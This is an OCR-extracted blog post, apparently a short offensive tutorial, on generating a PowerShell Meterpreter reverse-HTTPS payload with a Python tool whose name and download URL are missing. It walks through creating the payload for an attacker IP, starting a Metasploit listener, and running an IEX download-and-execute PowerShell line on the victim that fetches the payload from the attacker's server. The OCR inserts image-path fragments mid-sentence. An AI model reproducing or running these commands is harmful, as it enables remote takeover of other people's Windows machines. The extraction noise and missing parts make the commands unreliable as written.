Tips & Tricks

Using to Automate PowerShell Meterpeter Shells

There’s an awesome tool on Github you can download by running the following command.

sudo git clone

Running the Python script will generate some output that you can copy/paste to create the necessary payload.For example, I can quickly generate a PowerShell reverse shell payload by running the following command.

sudo python windows/meterpreter/reverse_https <attackerIP> 443

That command created two files.

powershell_attack.txt – Contains my malicious PowerShell payload.
unicorn.rc – Will allow us to easily spin up a listener inMetasploit.

Let’s copy both of these files and move them over to where we want them. I will place powershell_attack.txt in a directory that I’m hosting up w/ a webserver, and then I’ll place unicorn.rc into a directory that I want to start my Metasploit listener within.

I’ll start my Metasploit listener with the following code.

sudo msfconsole -r unicorn.rc

And then we just need to execute the following PowerShell code on the victim.

powershell "IEX(New-ObjectNet.WebClient).downloadString('http://<attackerIP>/powershell_attack.txt')"

Leave a Reply

Fill in your details below or click an icon to log in: Logo

You are commentingusing your account. Log Out /  Change )

Twitter picture

You are commenting using your Twitter account. Log Out /  Change )

Facebook photoYou are commenting using your Facebook account. Log Out/  Change )

Connecting to %s